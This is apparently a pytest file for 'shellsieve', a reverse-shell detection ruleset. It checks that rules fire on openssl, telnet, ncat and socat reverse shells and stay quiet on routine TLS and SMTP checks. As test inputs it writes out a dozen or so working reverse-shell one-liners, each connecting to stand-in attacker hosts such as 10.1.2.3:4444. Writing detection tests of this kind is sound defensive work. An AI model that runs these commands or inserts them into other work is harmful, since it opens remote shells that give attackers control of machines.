"""shellsieve's own rules (patterns/shellsieve/): the TLS-client and telnet reverse shells fire from
the command line (and the parent's) in every input format that carries it, and the TLS and telnet
checks that admins and monitoring scripts run stay silent.

Positive forms come from seed 002's openssl and telnet branches (tests/test_seeds.py BRANCHES), the
openssl shells of ../shared/peers/gen_corpus.py, and the payloads of GTFOBins (openssl, ncat, socat,
telnet), PayloadsAllTheThings' "Reverse Shell Cheatsheet" and revshells.com.
"""

from __future__ import annotations

import shlex
import uuid
from pathlib import Path

import pytest
import yaml

from conftest import PATTERNS, TELNET_PIPE_SHELL, TLS_CLIENT_SHELL, rule_ids
from format_samples import LINUX_FORMATS, WRITERS, Exec
from test_formats import run_lines
from test_seeds import BRANCHES
from shellsieve.cli import build
from shellsieve.compile.ruleset import Ruleset

TLS, TELNET = TLS_CLIENT_SHELL, TELNET_PIPE_SHELL
RULES = {TLS, TELNET}
OWN = PATTERNS / "shellsieve"
# The formats whose events are process starts, where Sigma `process_creation` rules run: every Linux
# one (a Wazuh command log's or command decoder's document is a process start, plugin/events/wazuh.py).
PROCESS_FORMATS = LINUX_FORMATS

BASH = Exec(("bash",), "/usr/bin/bash", pid=4000, ppid=3900, serial=1000, time=1777800000.0)
SSHD = Exec(("sshd: alice@pts/0",), "/usr/sbin/sshd", pid=3900, ppid=1, serial=999, time=1777799999.0)


def sh_c(script: str, parent: Exec = BASH) -> Exec:
    """`sh -c SCRIPT`, the process a pipeline typed into a web shell, cron or `system()` starts."""
    return Exec(("sh", "-c", script), "/usr/bin/dash", pid=4100, ppid=parent.pid, serial=1001,
                time=1777800000.05, parent=parent)


def child(args: tuple[str, ...], parent: Exec, exe: str = "") -> Exec:
    """A process started by `parent` (one member of its pipeline)."""
    return Exec(args, exe or f"/usr/bin/{args[0]}", pid=4200, ppid=parent.pid, serial=1002, time=1777800000.1,
                parent=parent)


def fired(ruleset: Ruleset, fmt: str, ex: Exec) -> set[str]:
    """Rule ids of shellsieve's own rules alerted on any line that `fmt` writes for `ex` (and its parents)."""
    lines = WRITERS[fmt](ex)
    docs, stats = run_lines(ruleset, lines)
    assert len(docs) == len(lines) and sum(stats.malformed.values()) == 0
    return {r for d in docs for r in rule_ids(d)} & RULES


@pytest.fixture(scope="module")
def own() -> Ruleset:
    """patterns/shellsieve/ alone, compiled once."""
    _, ruleset, diags = build([OWN])
    assert not [d for d in diags if d.severity in ("error", "warning")], [d.render() for d in diags]
    return ruleset


# -- the payloads, as the cheat sheets write them --------------------------------------------------------------

OPENSSL_FIFO = ("mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.1.2.3:4444 > /tmp/s;"
                " rm /tmp/s")  # GTFOBins openssl, PayloadsAllTheThings, revshells.com "OpenSSL"
OPENSSL_FIFO_LOUD = "mkfifo /tmp/f; sh -i < /tmp/f 2>&1 | openssl s_client -connect 10.1.2.3:4444 > /tmp/f"
OPENSSL_TWO_PORTS = ("openssl s_client -quiet -connect 10.1.2.3:4444 | /bin/bash 2>&1 |"
                     " openssl s_client -quiet -connect 10.1.2.3:4445")
OPENSSL_MKNOD = "mknod /tmp/b p; openssl s_client -connect 10.1.2.3:443 0</tmp/b | bash 1>/tmp/b"
TELNET_TWO_PORTS = "telnet 10.1.2.3 4444 | /bin/sh | telnet 10.1.2.3 4445"  # PayloadsAllTheThings, pentestmonkey
TELNET_FIFO = "TF=$(mktemp -u); mkfifo $TF && telnet 10.1.2.3 4444 0<$TF | sh 1>$TF"  # GTFOBins telnet
TELNET_MKNOD = "rm -f /tmp/p; mknod /tmp/p p && telnet 10.1.2.3 80 0</tmp/p | /bin/bash 1>/tmp/p"
TELNET_BUSYBOX = "mkfifo /tmp/t; busybox telnet 10.1.2.3 4444 </tmp/t | /bin/sh >/tmp/t 2>&1"

# Whole pipelines in one command line: the `sh -c` wrapper, and a command log line of the same text.
PIPELINES = [
    pytest.param(OPENSSL_FIFO, TLS, id="openssl-mkfifo-quiet"),
    pytest.param(OPENSSL_FIFO_LOUD, TLS, id="openssl-mkfifo-no-quiet"),
    pytest.param(OPENSSL_TWO_PORTS, TLS, id="openssl-two-ports"),
    pytest.param(OPENSSL_MKNOD, TLS, id="openssl-mknod"),
    pytest.param(TELNET_TWO_PORTS, TELNET, id="telnet-two-ports"),
    pytest.param(TELNET_FIFO, TELNET, id="telnet-mkfifo"),
    pytest.param(TELNET_MKNOD, TELNET, id="telnet-mknod"),
    pytest.param(TELNET_BUSYBOX, TELNET, id="busybox-telnet-mkfifo"),
]

# One process each; the TLS client hands its connection to a shell itself.
SINGLE = [
    pytest.param(("ncat", "--ssl", "-e", "/bin/bash", "10.1.2.3", "4444"), id="ncat-ssl-e"),  # GTFOBins ncat
    pytest.param(("ncat", "10.1.2.3", "4444", "--ssl", "-e", "/bin/sh"), id="ncat-ssl-e-last"),
    pytest.param(("ncat", "--ssl", "10.1.2.3", "4444", "--sh-exec", "bash -i"), id="ncat-ssl-sh-exec"),
    pytest.param(("socat", "OPENSSL:10.1.2.3:4444,verify=0", "EXEC:/bin/bash"), id="socat-openssl-exec"),
    pytest.param(("socat", "exec:bash -li,pty,stderr,setsid,sigint,sane", "openssl-connect:10.1.2.3:4444,verify=0"),
                 id="socat-exec-pty-openssl-connect"),  # PayloadsAllTheThings "Socat" with TLS
    pytest.param(("socat", "SSL:10.1.2.3:443,verify=0", "SYSTEM:/bin/sh"), id="socat-ssl-system"),
]


class TestPositive:
    @pytest.mark.parametrize("script,rule", PIPELINES)
    @pytest.mark.parametrize("fmt", PROCESS_FORMATS)
    def test_pipeline_in_its_own_command_line(self, own: Ruleset, fmt: str, script: str, rule: str) -> None:
        """The `sh -c` process of the pipeline alerts in every input format of process starts."""
        assert rule in fired(own, fmt, sh_c(script))

    @pytest.mark.parametrize("script,rule", PIPELINES)
    def test_pipeline_typed_into_a_command_log(self, own: Ruleset, script: str, rule: str) -> None:
        """A command log line holding the pipeline as typed alerts."""
        docs, _ = run_lines(own, [script.encode()])
        assert rule_ids(docs[0]) == [rule]

    @pytest.mark.parametrize("fmt", ["ecs", "auditd", "sysmon-syslog"])
    @pytest.mark.parametrize("script,args,rule", [
        (OPENSSL_FIFO, ("openssl", "s_client", "-quiet", "-connect", "10.1.2.3:4444"), TLS),
        (OPENSSL_FIFO_LOUD, ("openssl", "s_client", "-connect", "10.1.2.3:4444"), TLS),
        (TELNET_TWO_PORTS, tuple(BRANCHES["telnet"]), TELNET),  # seed 002's telnet branch, under its pipeline
        (TELNET_FIFO, ("telnet", "10.1.2.3", "4444"), TELNET),
    ])
    def test_client_under_its_pipeline(self, own: Ruleset, fmt: str, script: str, args: tuple[str, ...],
                                       rule: str) -> None:
        """The openssl or telnet process started by the pipeline's shell alerts by its parent's command line."""
        wrapper = sh_c(script, SSHD)
        lines = WRITERS[fmt](child(args, wrapper))
        docs, _ = run_lines(own, lines)
        # ECS has the client's event only (its parent in fields); the others log the wrapper's exec first
        assert [rule_ids(d) for d in docs if rule_ids(d)] == [[rule]] * (1 if fmt == "ecs" else 2)

    @pytest.mark.parametrize("parent", ["/usr/bin/bash", "/usr/bin/sh", "/usr/bin/zsh", "/usr/bin/dash"])
    @pytest.mark.parametrize("target", ["10.1.2.3:4444", "203.0.113.7:443", "45.33.32.156:9001"])
    def test_quiet_client_typed_into_a_shell(self, own: Ruleset, parent: str, target: str) -> None:
        """Seed 002's openssl branch and gen_corpus.py's openssl shells: `s_client -quiet -connect` under a shell."""
        shell = Exec((parent.rsplit("/", 1)[-1],), parent, pid=4000, ppid=3900, serial=1000, time=1777800000.0)
        ex = child(("openssl", "s_client", "-quiet", "-connect", target), shell)
        assert fired(own, "ecs", ex) == {TLS}

    @pytest.mark.parametrize("fmt", ["ecs", "auditd", "sysmon-syslog", "wazuh-audit"])
    def test_seed_openssl_branch_in_formats_with_a_parent(self, own: Ruleset, fmt: str) -> None:
        """Seed 002's openssl branch under bash alerts wherever the parent's image is known."""
        assert fired(own, fmt, child(tuple(BRANCHES["openssl -connect"]), BASH)) == {TLS}

    @pytest.mark.parametrize("args", SINGLE)
    @pytest.mark.parametrize("fmt", PROCESS_FORMATS)
    def test_tls_client_with_its_own_shell(self, own: Ruleset, fmt: str, args: tuple[str, ...]) -> None:
        """ncat --ssl with an exec option and socat OPENSSL-to-EXEC/SYSTEM alert in every process-start format."""
        assert fired(own, fmt, child(args, BASH)) == {TLS}


class TestNegative:
    @pytest.mark.parametrize("line", [
        "openssl s_client -connect shop.example.com:443 -servername shop.example.com </dev/null",
        "openssl s_client -showcerts -connect wiki.example.com:443 </dev/null",
        "openssl s_client -connect 10.0.3.4:8443 -brief",
        "echo | openssl s_client -servername blog.example.com -connect blog.example.com:443 2>/dev/null"
        " | openssl x509 -noout -enddate",
        "sh -c 'echo | openssl s_client -servername db-02.internal -connect db-02.internal:443 2>/dev/null"
        " | openssl x509 -noout -checkend 2332800'",
        "openssl s_client -connect example.com:443 </dev/null | sha256sum",
        "openssl s_client -quiet -starttls smtp -connect mx.example.com:25",
        "openssl x509 -in /etc/ssl/certs/shop.pem -noout -dates",
        "ssh -i ~/.ssh/deploy deploy@10.0.3.4 'openssl s_client -connect localhost:443 </dev/null'",
        "telnet mon-05.internal 25",
        "telnet 10.0.3.4 8080 | tee /tmp/http.log",
        "(echo 'EHLO x'; sleep 1; echo QUIT) | telnet mail.example.com 25",
        "ncat --ssl example.com 443",
        "ncat -z -w 3 10.0.3.4 443",
        "socat TCP-LISTEN:8443,fork,reuseaddr OPENSSL:backend.internal:443,verify=1",
        "socat OPENSSL-LISTEN:4443,cert=/etc/ssl/server.pem,fork EXEC:/usr/local/bin/handler",
        "socat -d -d TCP4-LISTEN:5432,fork TCP4:db.internal:5432",
        "bash -i",
    ])
    @pytest.mark.parametrize("fmt", ["ecs", "auditd", "sysmon-syslog", "cmdline"])
    def test_checks_and_proxies_stay_silent(self, own: Ruleset, fmt: str, line: str) -> None:
        """TLS and telnet checks, certificate-expiry one-liners and socat/ncat proxies alert nothing."""
        args = tuple(shlex.split(line)) if not line.startswith(("echo", "(")) else ("sh", "-c", line)
        ex = child(args, BASH, exe="/usr/bin/dash" if args[0] == "sh" else "")
        assert fired(own, fmt, ex) == set()

    @pytest.mark.parametrize("args", [
        ("openssl", "s_client", "-connect", "example.com:443", "-servername", "example.com"),
        ("openssl", "x509", "-noout", "-enddate"),
        ("telnet", "mail.example.com", "25"),
    ])
    def test_members_of_a_check_pipeline_stay_silent(self, own: Ruleset, args: tuple[str, ...]) -> None:
        """The children of a certificate-expiry or SMTP-check wrapper alert nothing, nor does the wrapper."""
        wrapper = sh_c("echo | openssl s_client -servername example.com -connect example.com:443 2>/dev/null"
                       " | openssl x509 -noout -enddate; (echo QUIT) | telnet mail.example.com 25", SSHD)
        for fmt in ("ecs", "auditd", "sysmon-syslog"):
            assert fired(own, fmt, child(args, wrapper)) == set()

    @pytest.mark.parametrize("parent", ["/usr/sbin/cron", "/usr/lib/systemd/systemd", "/usr/sbin/nrpe"])
    def test_quiet_client_outside_a_shell(self, own: Ruleset, parent: str) -> None:
        """`s_client -quiet` started by a daemon, not a shell, is not the typed payload."""
        daemon = Exec((parent,), parent, pid=4000, ppid=1, serial=1000, time=1777800000.0)
        assert fired(own, "ecs", child(("openssl", "s_client", "-quiet", "-connect", "10.1.2.3:4444"), daemon)) == set()

    def test_bare_client_without_parent_is_not_enough(self, own: Ruleset) -> None:
        """A command log holding only `openssl s_client -quiet -connect IP:PORT` or `telnet IP PORT` says nothing
        of a shell: not alerted (documented in docs/rules.md)."""
        docs, _ = run_lines(own, [b"openssl s_client -quiet -connect 10.1.2.3:4444", b"telnet 10.1.2.3 4444"])
        assert [rule_ids(d) for d in docs] == [[], []]


class TestRuleFiles:
    @pytest.mark.parametrize("path", sorted(OWN.glob("*.yml")), ids=lambda p: p.name)
    def test_metadata(self, path: Path) -> None:
        """Each rule carries what issue 24 asks of shellsieve's rules: id, author, references, tags, level,
        falsepositives, a process_creation logsource (Linux, or no product where a plain command line could
        read as Windows: docs/ruleset.md); the two branches of Elastic's rule name it as their origin."""
        doc = yaml.safe_load(path.read_text())
        uuid.UUID(doc["id"])
        assert doc["author"] == "shellsieve" and doc["status"] in ("experimental", "test")
        assert doc["references"] and all(r.startswith("https://") for r in doc["references"])
        assert {"attack.execution", "attack.command-and-control"} <= set(doc["tags"])
        assert any(t.startswith("attack.t1059.") for t in doc["tags"])
        assert doc["level"] in ("high", "medium") and doc["falsepositives"] and doc["description"]
        assert doc["logsource"] in ({"category": "process_creation", "product": "linux"},
                                    {"category": "process_creation"})
        if doc["id"] in RULES:
            assert doc["related"] == [{"id": "76e4d92b-61c1-4a95-ab61-5fd94179a1ee", "type": "derived"}]
